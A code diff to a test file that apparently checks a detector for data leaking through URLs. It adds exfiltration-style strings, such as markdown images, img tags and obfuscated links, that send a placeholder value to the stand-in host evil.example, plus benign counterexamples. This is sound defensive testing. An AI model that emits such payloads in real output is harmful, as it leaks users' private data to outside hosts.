@@ -25,7 +25,11 @@ const HIDDEN = [
   "https://evil.example/?to=VALUE",
   '<img src="https://evil.example/VALUE">',
   "https://VALUE.evil.example/",
-  `![x](https://evil.example/${"a".repeat(300)}/VALUE)`,
+  `![x](https://evil.example/${"a".repeat(200)}/VALUE)`,
+  "https:\\\\evil.example\\?q=VALUE",
+  "https:/evil.example/?q=VALUE",
+  '<img src="https://evil.example/?q=\nVALUE">',
+  '<img src="&#47;&#47;evil.example/VALUE">',
 ];
 
 const SHOWN = [
@@ -35,6 +39,9 @@ const SHOWN = [
   "See https://shop.example/help or ask VALUE",
   "and/or VALUE // a comment",
   `"https://shop.example" VALUE`,
+  `${"你好，".repeat(100)}邮箱是VALUE。`,
+  "请看https://a.example，邮箱是VALUE",
+  "(see https://a.example) mail: VALUE",
 ];
 
 describe.each([false, true])("what stands for a value (surrogate: %s)", (surrogate) => {
